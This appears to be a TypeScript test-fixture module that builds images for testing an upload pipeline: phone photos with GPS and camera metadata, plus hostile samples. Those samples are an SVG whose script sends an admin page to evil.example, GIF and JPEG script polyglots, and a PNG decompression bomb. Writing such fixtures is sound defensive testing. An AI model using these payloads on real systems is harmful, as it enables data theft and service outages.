/**
 * Pictures for tests, made with sharp: a phone's photo carrying its GPS
 * position and camera in EXIF and XMP, hostile files, and a decompression bomb.
 */
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";

/** Strings a phone's photo carries that no served byte may. */
export const CAMERA_MAKE = "PhoneMakerX";
export const CAMERA_MODEL = "ModelY9";
export const XMP_MARK = "Latitude-21.0285N";

const XMP = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="${XMP_MARK}"/></rdf:RDF></x:xmpmeta>`;

/** EXIF: the camera in IFD0, the position in the GPS IFD (libvips's IFD3). */
const EXIF = {
  IFD0: { Make: CAMERA_MAKE, Model: CAMERA_MODEL },
  IFD3: {
    GPSLatitudeRef: "N",
    GPSLatitude: "21/1 1/1 42/1",
    GPSLongitudeRef: "E",
    GPSLongitude: "105/1 51/1 0/1",
  },
};

function canvas(width: number, height: number) {
  return sharp({
    create: { width, height, channels: 3, background: { r: 180, g: 90, b: 40 } },
  }).composite([
    // A mark in one corner, so a test can tell which way up the picture is.
    {
      input: { create: { width: 100, height: 100, channels: 3, background: "#000000" } },
      left: 0,
      top: 0,
    },
  ]);
}

/**
 * A phone's photo: `width` × `height` pixels stored sideways with EXIF
 * orientation 6 (shown turned a quarter clockwise), with GPS, camera and XMP.
 */
export async function phoneJpeg(width = 3000, height = 2000): Promise<Buffer> {
  const plain = await canvas(width, height).jpeg().toBuffer();
  return sharp(plain)
    .jpeg({ quality: 90 })
    .withMetadata({ orientation: 6 })
    .withExif(EXIF)
    .withXmp(XMP)
    .toBuffer();
}

/** The same metadata in a PNG (eXIf and iTXt chunks) and a WebP. */
export async function phonePicture(format: "png" | "webp", width = 1200, height = 900) {
  const plain = await canvas(width, height).png().toBuffer();
  const base = sharp(plain).withExif(EXIF).withXmp(XMP);
  return format === "png" ? base.png().toBuffer() : base.webp().toBuffer();
}

/** An animated GIF of `frames` frames, each a different colour. */
export async function animatedGif(frames = 3, width = 640, height = 400): Promise<Buffer> {
  const pages = Array.from({ length: frames }, (_, i) =>
    sharp({
      create: { width, height, channels: 3, background: { r: 80 * i, g: 120, b: 200 } },
    })
      .png()
      .toBuffer(),
  );
  return sharp(await Promise.all(pages), { join: { animated: true } })
    .gif({ loop: 0, delay: Array(frames).fill(100) })
    .toBuffer();
}

export const SVG_WITH_SCRIPT = Buffer.from(
  `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><script>fetch("/admin/").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script><rect width="400" height="300" fill="red"/></svg>`,
);

/** A text file someone renamed `.jpg`. */
export const TEXT_AS_JPG = Buffer.from("Biên bản họp tổ dân phố số 3\nNgày 5/12: không có ảnh.\n");

/** A GIF header followed by script: a polyglot that a browser sniffing it could run. */
export const GIF_POLYGLOT = Buffer.from(
  "GIF89a/*\x00\x00\x00\x00*/=1;alert(document.domain);//<script>alert(1)</script>",
  "latin1",
);

/** A valid JPEG with a script appended after its end (a JPEG/HTML polyglot). */
export async function jpegWithScript(): Promise<Buffer> {
  const jpeg = await canvas(800, 600).jpeg().toBuffer();
  return Buffer.concat([jpeg, Buffer.from("<html><script>alert(document.cookie)</script></html>")]);
}

/**
 * A PNG a few hundred bytes long that declares `side` × `side` pixels: a
 * decompression bomb (its pixels inflate from one repeated zlib run).
 */
export function pngBomb(side = 50_000): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body) >>> 0);
    return Buffer.concat([length, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  // A few rows of zeros, compressed; a decoder asked for every row would inflate far more.
  const rows = deflateSync(Buffer.alloc((side / 8 + 1) * 64), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", ihdr),
    chunk("IDAT", rows),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** Whether `haystack` holds `needle` as bytes (Latin-1 or UTF-8, as metadata is written). */
export function containsText(haystack: Uint8Array, needle: string): boolean {
  return Buffer.from(haystack).includes(Buffer.from(needle, "latin1"));
}
